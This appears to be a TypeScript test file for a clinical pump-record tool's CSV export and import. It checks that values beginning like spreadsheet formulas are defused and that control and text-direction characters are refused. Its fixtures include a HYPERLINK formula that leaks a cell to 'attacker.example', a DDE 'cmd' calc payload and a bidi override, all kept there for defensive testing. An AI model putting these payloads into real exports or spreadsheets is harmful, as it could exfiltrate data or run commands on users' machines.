/**
 * Spreadsheet formulas in the interchange (issue 18, item 6): `reservoir export` writes no cell a
 * spreadsheet would run as a formula, import reads every value back exactly, and values an
 * earlier version recorded that the import now refuses stop the export, named.
 */
import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportRecord } from './export';
import { csvRecord, defuseCell, EXPORT_BOM, undefuseCell } from './format';
import { importRecord } from './import';
import { parseCsvBytes } from './read';
import { fixtureFiles, readFolder, replaceLine, workspace } from './test-support';

const FORMULA = /^[=+\-@\t\r]/;

/** Text the contract can store: trimmed, line breaks as LF, no NUL (which the files never carry). */
const storable = fc
  .oneof(
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\n', 'a', ' ', '"', ',', 'é', '😀'), maxLength: 8 }),
  )
  .map((s) => s.replace(/\r\n?/g, '\n').replace(/\0/g, '').trim());

/** The bytes of a two-column file holding `value` in column `a`, as export writes it. */
const fileWith = (value: string) => Buffer.from(EXPORT_BOM + csvRecord(['a', 'b']) + csvRecord([value, 'k']), 'utf8');

describe('defusing: a bijection between values and cells', () => {
  it('worked examples', () => {
    expect(defuseCell('=HYPERLINK("http://x")')).toBe('\'=HYPERLINK("http://x")');
    expect(defuseCell('-2 mL short')).toBe("'-2 mL short");
    expect(defuseCell('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    expect(defuseCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(defuseCell("'=already")).toBe("''=already");
    expect(defuseCell("'plain")).toBe("'plain");
    expect(defuseCell('Okafor')).toBe('Okafor');
    expect(undefuseCell("''=already")).toBe("'=already");
    expect(undefuseCell("'plain")).toBe("'plain");
    expect(undefuseCell('=x')).toBe('=x');
  });

  it('any string: undefuse(defuse(s)) is s, and no defused value begins with = + - @, tab or CR', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'x') })), (s) => {
        expect(undefuseCell(defuseCell(s))).toBe(s);
        expect(defuseCell(s)).not.toMatch(FORMULA);
      }),
      { numRuns: 2000 },
    );
  });

  it('any storable value round-trips through an exported file and the import reader unchanged', () => {
    fc.assert(
      fc.property(storable, (value) => {
        const read = parseCsvBytes('x.csv', fileWith(value), ['a', 'b']);
        expect(read.issues).toEqual([]);
        expect(read.rows.map((r) => r.values.a)).toEqual([value]);
      }),
      { numRuns: 2000 },
    );
  });

  it('no cell of an exported file begins with a formula character, as a spreadsheet reads it', () => {
    fc.assert(
      fc.property(fc.array(storable, { minLength: 1, maxLength: 5 }), (values) => {
        const cells = parse(csvRecord(values), { bom: true, relax_column_count: true }) as string[][];
        for (const cell of cells.flat()) expect(cell).not.toMatch(FORMULA);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('reservoir export → import with values beginning like formulas', () => {
  let ws: ReturnType<typeof workspace>;
  beforeEach(() => {
    ws = workspace();
  });
  afterEach(() => ws.cleanup());

  it('notes beginning with = - @ are written defused and read back exactly; a second export gives the same bytes', () => {
    const first = ws.db();
    const imported = importRecord(first.ctx, ws.folder(fixtureFiles()));
    expect(imported.ok).toBe(true);
    const reversal = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    const removal = "'-already an apostrophe\n@second line";
    first.store.db.prepare('UPDATE reversals SET note = ?').run(reversal);
    first.store.db.prepare('UPDATE removals SET note = ?').run(removal);
    const out1 = ws.path('out1');
    expect(exportRecord(first.ctx, out1).ok).toBe(true);
    const files = readFolder(out1);
    const reversalsCsv = files['reversals.csv']!.toString('utf8');
    expect(reversalsCsv).toContain(`,"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"\r\n`);
    expect(files['removals.csv']!.toString('utf8')).toContain(`,"''-already an apostrophe\n@second line",\r\n`);
    for (const [name, bytes] of Object.entries(files)) {
      for (const cell of (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat()) expect(cell, name).not.toMatch(FORMULA);
    }

    const second = ws.db();
    expect(importRecord(second.ctx, out1).ok).toBe(true);
    const pumpId = (serial: string) => second.store.record.pumpBySerial(serial)!.id;
    expect(second.store.record.reversal(pumpId('NGV400004'))!.note).toBe(reversal);
    expect(second.store.record.removal(pumpId('PRO300003'))!.note).toBe(removal);
    const out2 = ws.path('out2');
    expect(exportRecord(second.ctx, out2).ok).toBe(true);
    expect(readFolder(out2)).toEqual(files);
  });

  it('the import refuses names with control characters or beginning like a formula, at their file, line and column', () => {
    const files = fixtureFiles();
    files['patients.csv'] = replaceLine(files['patients.csv']!, 2, 'RSV-001,"=HYPERLINK(""http://x"")",Grace,1958-03-14,female,spasticity');
    files['patients.csv'] = replaceLine(files['patients.csv']!, 3, 'RSV-002,Oka\u001bfor,Grace,1958-03-14,female,spasticity');
    files['pumps.csv'] = replaceLine(files['pumps.csv']!, 2, 'RSV-001,Medtronic,SynchroMed II,NGV100001,2025-06-02,20,2,T10\u202E');
    const db = ws.db();
    const r = importRecord(db.ctx, ws.folder(files));
    expect(r.ok).toBe(false);
    const issues = r.ok ? [] : r.issues.map((i) => `${i.file}:${i.line}: ${i.column}: ${i.message}`);
    expect(issues).toContain('patients.csv:2: family_name: must not begin with =, +, - or @ (a spreadsheet would run it as a formula) (got "=HYPERLINK(\\"http://x\\")")');
    expect(issues).toContain('patients.csv:3: family_name: must not contain control characters (U+001B at character 4) (got "Oka\\u001bfor")');
    // The value is quoted with the override escaped: the report line reads as written, in a terminal too.
    expect(issues).toContain('pumps.csv:2: catheter_tip_level: must not contain text-direction controls (U+202E at character 4) (got "T10\\u202e")');
    expect((db.store.db.prepare('SELECT count(*) AS n FROM patients').get() as { n: number }).n).toBe(0);
  });
});

describe('a database from an earlier version holding values the import now refuses', () => {
  let ws: ReturnType<typeof workspace>;
  beforeEach(() => {
    ws = workspace();
  });
  afterEach(() => ws.cleanup());

  it('the export refuses, naming each record and field, and writes nothing', () => {
    const db = ws.db();
    expect(importRecord(db.ctx, ws.folder(fixtureFiles())).ok).toBe(true);
    // What an earlier Reservoir accepted: a NUL in a name, a name beginning like a formula, a bidi override in a note.
    db.store.db.prepare("UPDATE patients SET family_name = 'Oka' || char(0) || 'for' WHERE mrn = 'RSV-001'").run();
    db.store.db.prepare("UPDATE patients SET given_name = '=cmd|'' /C calc''!A0' WHERE mrn = 'RSV-003'").run();
    db.store.db.prepare("UPDATE reversals SET note = 'weaned ' || char(8238) || 'lano'").run();
    const out = ws.path('legacy-out');
    fs.mkdirSync(out);
    fs.writeFileSync(`${out}/patients.csv`, 'an earlier export');
    const r = exportRecord(db.ctx, out);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('invalid_input');
    const lines = r.error.message.split('\n');
    expect(lines[0]).toBe(
      `The export was not written: 3 recorded value(s) would be refused by the import (recorded before Reservoir checked them). Correct them in Reservoir, then export again. Nothing in ${out} was changed.`,
    );
    expect(lines).toContain('patients.csv: the row of mrn "RSV-001": family_name must not contain control characters (U+0000 at character 4)');
    expect(lines).toContain('patients.csv: the row of mrn "RSV-003": given_name must not begin with =, +, - or @ (a spreadsheet would run it as a formula)');
    expect(lines).toContain('reversals.csv: the row of serial "NGV400004": note must not contain text-direction controls (U+202E at character 8)');
    // Nothing written: the earlier file is as it was, no other file, no temporary file left.
    expect(fs.readdirSync(out)).toEqual(['patients.csv']);
    expect(fs.readFileSync(`${out}/patients.csv`, 'utf8')).toBe('an earlier export');

    // Corrected in the record, the export is written and imports.
    db.store.db.prepare("UPDATE patients SET family_name = 'Okafor' WHERE mrn = 'RSV-001'").run();
    db.store.db.prepare("UPDATE patients SET given_name = 'Paul' WHERE mrn = 'RSV-003'").run();
    db.store.db.prepare("UPDATE reversals SET note = 'weaned'").run();
    expect(exportRecord(db.ctx, out).ok).toBe(true);
    expect(importRecord(ws.db().ctx, out).ok).toBe(true);
  });
});
